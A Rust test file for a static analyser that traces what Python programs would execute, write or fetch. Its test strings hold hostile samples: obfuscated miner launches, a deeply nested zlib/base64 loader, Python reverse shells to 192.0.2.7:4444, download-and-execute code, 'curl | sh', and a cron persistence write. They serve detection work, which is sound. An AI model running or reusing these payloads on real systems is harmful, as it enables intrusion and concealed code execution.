use super::*;

fn base64(bytes: &[u8]) -> String {
    data_encoding::BASE64.encode(bytes)
}

fn zlib(text: &str) -> Vec<u8> {
    use std::io::Write;
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(text.as_bytes()).unwrap();
    encoder.finish().unwrap()
}

fn follow(program: &str) -> StartPath {
    Fixture::new().file("app/x.py", program, 0o644).start(&["python3", "/app/x.py"], &[]).follow()
}

/// What a program does besides being started.
fn does(program: &str) -> Vec<String> {
    lines(&follow(program)).into_iter().skip(1).collect()
}

fn check_each(cases: &[(&str, &str)]) {
    let mut wrong = Vec::new();
    for (program, expected) in cases {
        let got = does(program).join("\n");
        let expected: Vec<&str> = expected.lines().map(str::trim).filter(|l| !l.is_empty()).collect();
        if got != expected.join("\n") {
            wrong.push(format!("--- {program}\n  expected: {}\n  got:      {got}", expected.join("\n")));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn programs_that_are_started_are_stated() {
    let sh = "run /bin/sh -c [miner -o x]\nrun miner -o x";
    check_each(&[
        ("import os\nos.system('miner -o x')", sh),
        ("import os as o\no.popen('miner ' + '-o x').read()", sh),
        ("from os import system as s\ns('miner -o x')", sh),
        ("import subprocess\nsubprocess.Popen('miner -o x', shell=True)", sh),
        ("import subprocess as s\ns.run(['miner', '-o', 'x'])", "run miner -o x"),
        ("from subprocess import *\ncall(['miner', '-o', 'x'])", ""),
        ("import subprocess\nsubprocess.check_output(args=('miner', '-o', 'x'))", "run miner -o x"),
        ("import os\nos.execl('/usr/bin/miner', 'sshd', '-o', 'x')", "run /usr/bin/miner -o x"),
        ("import os\nos.execvp('miner', ['m', '-o', 'x'])", "run miner -o x"),
        ("import os\nos.spawnl(os.P_NOWAIT, '/usr/bin/miner', 'm', '-o', 'x')", "run /usr/bin/miner -o x"),
        (
            "import os\nos.posix_spawn('/usr/bin/miner', ['m', '-o', 'x'], os.environ)",
            "run /usr/bin/miner -o x",
        ),
        ("import pty\npty.spawn('/bin/bash')", "run /bin/bash"),
        ("__import__('os').system('miner -o x')", sh),
        ("getattr(__import__('o'+'s'), 'sys'+'tem')('miner -o x')", sh),
        ("import importlib\nimportlib.import_module('os').system('miner -o x')", sh),
        ("import commands\ncommands.getoutput('miner -o x')", sh),
        (
            "import asyncio\nasync def main():\n  await asyncio.create_subprocess_shell('miner -o x')\nasyncio.run(main())",
            sh,
        ),
        ("import builtins, os\nbuiltins.getattr(os, 'system')('miner -o x')", sh),
        ("globals()['__builtins__'].__import__('os').system('miner -o x')", sh),
    ]);
}

#[test]
fn values_are_computed() {
    let sh = "run /bin/sh -c [miner -o x]\nrun miner -o x";
    check_each(&[
        ("import os\na = 'miner'\nb = f'{a} -o x'\nos.system(b)", sh),
        ("import os\nos.system('%s -o %s' % ('miner', 'x'))", sh),
        ("import os\nos.system('{} -o {y}'.format('miner', y='x'))", sh),
        ("import os\nos.system(' '.join(['miner', '-o', 'x']))", sh),
        ("import os\nos.system('x o- renim'[::-1])", sh),
        ("import os\nos.system(''.join(map(chr, [109,105,110,101,114,32,45,111,32,120])))", sh),
        ("import os\nos.system(''.join(chr(c) for c in [109,105,110,101,114,32,45,111,32,120]))", sh),
        ("import os\nos.system(bytes([b ^ 1 for b in b'lhods!,n!y']).decode())", sh),
        (
            "import os\nk = b'k'\nd = bytes.fromhex('0602050e194b46044b13')\no = []\nfor i in range(len(d)):\n  o.append(chr(d[i] ^ k[i % len(k)]))\nos.system(''.join(o))",
            sh,
        ),
        (
            "import os\no = ''\ni = 0\nd = 'lhods!,n!y'\nwhile i < len(d):\n  o += chr(ord(d[i]) ^ 1)\n  i += 1\nos.system(o)",
            sh,
        ),
        (
            "import os\nos.system('zvare -b k'.replace('k','x').translate(str.maketrans('zvareb','minero')))",
            "run /bin/sh -c [miner -o x]\nrun miner -o x",
        ),
        ("import os, codecs\nos.system(codecs.decode('zvare -b k', 'rot13'))", sh),
        ("import os, base64\nos.system(base64.b64decode('bWluZXIgLW8geA==').decode('utf-8'))", sh),
        ("import os\ndef f(a, b='x'):\n  return a + ' -o ' + b\nos.system(f('miner'))", sh),
        (
            "import os\nclass A:\n  def __init__(self, p):\n    self.p = p\n  def go(self):\n    os.system(self.p + ' -o x')\nA('miner').go()",
            sh,
        ),
        ("import os\nd = {'a': 'miner'}\nos.system(d['a'] + d.get('b', ' -o x'))", sh),
        ("import os\nif True:\n  c = 'miner -o x'\nelse:\n  c = 'no'\nos.system(c)", sh),
        ("import os\nf = lambda s: s[::-1]\nos.system(f('x o- renim'))", sh),
        ("import os\na, *b = 'miner -o x'.split()\nos.system(a + ' ' + ' '.join(b))", sh),
        ("import os\nfor c in ('miner -o x',):\n  os.system(c)", sh),
        ("if __name__ == '__main__':\n  import os\n  os.system('miner -o x')", sh),
        ("import os\ndef main():\n  os.system('miner -o x')\nif __name__ == '__main__':\n  main()", sh),
    ]);
}

#[test]
fn what_may_happen_is_stated_so() {
    check_each(&[
        ("import os, sys\nif len(sys.argv) > 1:\n  os.system('id')", ""),
        ("import os, mod\nif mod.y():\n  os.system('id')", "may run /bin/sh -c id\nmay run id"),
        ("import os\ndef unused():\n  os.system('id')", "may run /bin/sh -c id\nmay run id"),
        (
            "import os\ntry:\n  import mod\nexcept ImportError:\n  os.system('id')",
            "may run /bin/sh -c id\nmay run id",
        ),
        ("import os\nif os.environ.get('DEBUG'):\n  os.system('id')", "may run /bin/sh -c id\nmay run id"),
        ("import os, sys\nsys.exit(0)\nos.system('id')", ""),
        ("import os\nos.system('echo ' + os.environ['WHO'])", "run /bin/sh -c [echo $WHO]"),
        ("import os\nos.system('id ' + input())", "run /bin/sh -c [id $input]\nrun id $input"),
    ]);
}

#[test]
fn shells_tied_to_connections_are_fed_by_them() {
    check_each(&[
        (
            "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('192.0.2.7',4444))\n\
             os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])",
            "net 192.0.2.7:4444\nrun /bin/sh -i <- /dev/tcp/192.0.2.7/4444",
        ),
        (
            "import socket,pty,os\ns=socket.create_connection((\"192.0.2.7\",4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('sh')",
            "net 192.0.2.7:4444\nrun sh <- /dev/tcp/192.0.2.7/4444",
        ),
        (
            "import socket,subprocess\ns=socket.socket()\ns.connect(('192.0.2.7',4444))\nsubprocess.Popen(['sh'],stdin=s,stdout=s)",
            "net 192.0.2.7:4444\nrun sh <- /dev/tcp/192.0.2.7/4444",
        ),
        (
            "import socket,subprocess\ns=socket.socket()\ns.connect(('192.0.2.7',4444))\nwhile True:\n  c=s.recv(1024).decode()\n  \
             if c == 'quit': break\n  s.send(subprocess.getoutput(c).encode())",
            "net 192.0.2.7:4444\nrun /bin/sh -c $received_decode <- /dev/tcp/192.0.2.7/4444 from tcp://192.0.2.7:4444",
        ),
        (
            "import socket,os\ns=socket.socket()\ns.bind(('0.0.0.0',4444))\ns.listen(1)\nc,a=s.accept()\nos.dup2(c.fileno(),0)\nos.execl('/bin/sh','sh','-i')",
            "run /bin/sh -i <- /dev/listen/4444",
        ),
    ]);
}

#[test]
fn what_comes_over_the_network_is_marked() {
    check_each(&[
        (
            "import urllib.request as u\nexec(u.urlopen('http://192.0.2.5/a').read())",
            "net 192.0.2.5 http://192.0.2.5/a\nrun python3 -c $response from http://192.0.2.5/a",
        ),
        (
            "import requests\nr = requests.get('http://files.example.test/a')\nopen('/tmp/a','wb').write(r.content)\nimport os\nos.chmod('/tmp/a', 0o755)\nos.system('/tmp/a')",
            "net files.example.test http://files.example.test/a\nwrite /tmp/a = $response\nchmod /tmp/a = 755\n\
             run /bin/sh -c /tmp/a from http://files.example.test/a\nrun /tmp/a from http://files.example.test/a",
        ),
        (
            "import urllib.request,os\nurllib.request.urlretrieve('http://192.0.2.5/a', '/tmp/a')\nos.execv('/tmp/a', ['a'])",
            "net 192.0.2.5 http://192.0.2.5/a\nwrite /tmp/a = $response\nrun /tmp/a from http://192.0.2.5/a",
        ),
        (
            "import http.client\nc = http.client.HTTPSConnection('a.example.test')\nc.request('GET', '/x')\n",
            "net a.example.test https://a.example.test/x",
        ),
        (
            "import os\nos.system('curl http://192.0.2.5/a | sh')",
            "run /bin/sh -c [curl http://192.0.2.5/a | sh]\nrun curl http://192.0.2.5/a\nnet 192.0.2.5 http://192.0.2.5/a\nrun sh <- curl from http://192.0.2.5/a",
        ),
    ]);
}

#[test]
fn files_that_are_written_are_stated() {
    check_each(&[
        (
            "open('/etc/cron.d/x', 'w').write('* * * * * root id\\n')",
            "write /etc/cron.d/x = * * * * * root id\nscheduled may run /bin/sh -c id\nscheduled may run id",
        ),
        (
            "with open('/tmp/x', 'a') as f:\n  f.write('a')\n  f.write('b')",
            "append /tmp/x = a\nappend /tmp/x = b",
        ),
        ("from pathlib import Path\n(Path('/tmp') / 'x').write_text('a')", "write /tmp/x = a"),
        (
            "import os, shutil\nos.remove('/etc/x')\nshutil.copy('/app/x.txt', '/tmp/y')",
            "delete /etc/x\nwrite /tmp/y = $(</app/x.txt)",
        ),
        ("print('a', file=open('/tmp/x', 'w'))", "write /tmp/x = a"),
    ]);
}

#[test]
fn every_stage_of_nested_code_is_read() {
    let end = "import os\nos.system('miner -o x')";
    let mut code = end.to_owned();
    for _ in 0..63 {
        let packed: String = base64(&zlib(&code)).chars().rev().collect();
        code = format!(
            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{packed}'))"
        );
    }
    let path = follow(&code);
    let got = lines(&path);
    assert_eq!(got.last().map(String::as_str), Some("run miner -o x"), "{:?}", path.gaps);
    assert!(path.gaps.is_empty(), "{:?}", path.gaps);
    let stages = got.iter().filter(|l| l.starts_with("run python3 -c")).count();
    assert_eq!(stages, 63);
    assert!(got.iter().any(|l| l.ends_with("<- zlib <- base64 <- rev")), "{got:?}");
}

#[test]
fn code_that_is_compiled_is_told_to_be_run() {
    check_each(&[(
        "import marshal,zlib,base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('eJxLTEpOSQUABcgB8Q=='))))",
        "run python3 -c $marshal <- marshal <- zlib <- base64",
    )]);
}

#[test]
fn files_beside_the_program_are_followed() {
    let path = Fixture::new()
        .file("app/main.py", "from pkg import tool\nimport other\ntool.go()\n", 0o644)
        .file("app/pkg/__init__.py", "", 0o644)
        .file(
            "app/pkg/tool.py",
            "import os\nfrom . import names\ndef go():\n  os.system(names.PROGRAM)\n",
            0o644,
        )
        .file("app/pkg/names.py", "PROGRAM = 'miner -o x'\n", 0o644)
        .file("app/other.py", "import main\nimport other\n", 0o644)
        .start(&["python3", "-m", "main"], &[]);
    let mut path = path;
    path.config.working_dir = "/app".into();
    let followed = path.follow();
    assert_eq!(lines(&followed).last().map(String::as_str), Some("run miner -o x"), "{:?}", lines(&followed));
    assert_eq!(reach(&followed, "app/pkg/tool.py"), Some(Reach::Starts));
}

#[test]
fn one_liners_shebangs_and_input_are_followed() {
    let one = Fixture::new().start(&["python3", "-uc", "import os; os.system('id')"], &[]).follow();
    assert_eq!(lines(&one).last().map(String::as_str), Some("run id"));
    let shebang = Fixture::new()
        .file("x", "#!/usr/bin/env python3\nimport os\nos.system('id')\n", 0o755)
        .start(&["/x"], &[]);
    assert_eq!(lines(&shebang.follow()).last().map(String::as_str), Some("run id"));
    check(
        "echo \"import os; os.system('id')\" | python3",
        "run echo [import os; os.system('id')]\nrun python3 <- echo < import os; os.system('id')\nrun /bin/sh -c id\nrun id",
    );
    check("x=$(python3 -c 'print(\"i\" + \"d\")'); $x", "run python3 -c [print(\"i\" + \"d\")]\nrun id");
    let pth = Fixture::new()
        .file("usr/lib/python3/dist-packages/a.pth", "import os; os.system('id')\n", 0o644)
        .start(&["python3", "-m", "http.server"], &[]);
    let _ = pth;
}

#[test]
fn hostile_programs_end() {
    let deep = format!("x = {}1{}", "(".repeat(5000), ")".repeat(5000));
    let lists = format!("x = {}{}", "[".repeat(5000), "]".repeat(5000));
    let sum = format!("x = {}", vec!["'a'"; 20_000].join(" + "));
    let calls = "def f(a):\n  return f(a) + f(a) + f(a)\nf(1)\nimport os\nos.system('id')";
    let bomb = format!(
        "import zlib,base64\nx = zlib.decompress(base64.b64decode('{}'))",
        base64(&zlib(&"a".repeat(20 << 20)))
    );
    let ifs: String = (0..300).map(|n| format!("{}if x:\n", " ".repeat(n))).collect();
    for program in [
        deep.as_str(),
        &lists,
        &sum,
        calls,
        &bomb,
        &ifs,
        "x = 'a' * 10**10",
        "x = 'a'\nwhile True:\n  x += x",
        "x = [0] * 10**9",
        "for i in range(10**12): pass",
        "x = []\nx.append(x)\nprint(x)\nstr(x)\n''.join(x)",
        "d = {}\nd['a'] = d\nprint(d)",
        "exec('exec(x)')",
        "x = 'exec(x)'\nexec(x)",
        "class A(A): pass\nA().b()",
        "class A:\n  def __init__(self):\n    A()\nA()",
        "print 'python two'\nexec 'import os' in {}\nraise X, 'y'",
        "\u{feff}# é\nx = '\u{1F600}'[::-1]",
        "def f(*a, **k): return f(*a, **k)\nf(1)",
        "x = 1 << 99999999\ny = 2 ** 99999999\nz = -2**63 // -1",
        "lambda: (yield)\n@x\nclass",
        "(((((",
        "import a.b.c.d\nfrom . import *\nfrom ... import x",
        "'%s %d %' % ('a',)\n'{'.format()\n'{0[a]}'.format({'a': 1})",
        "x = 'a'[1:2:0]\nx = 'abc'[-99999999999:99999999999:-1]",
    ] {
        let started = std::time::Instant::now();
        follow(program);
        let took = started.elapsed();
        assert!(took.as_secs() < 5, "{took:?}: {}", &program[..program.len().min(80)]);
    }
}
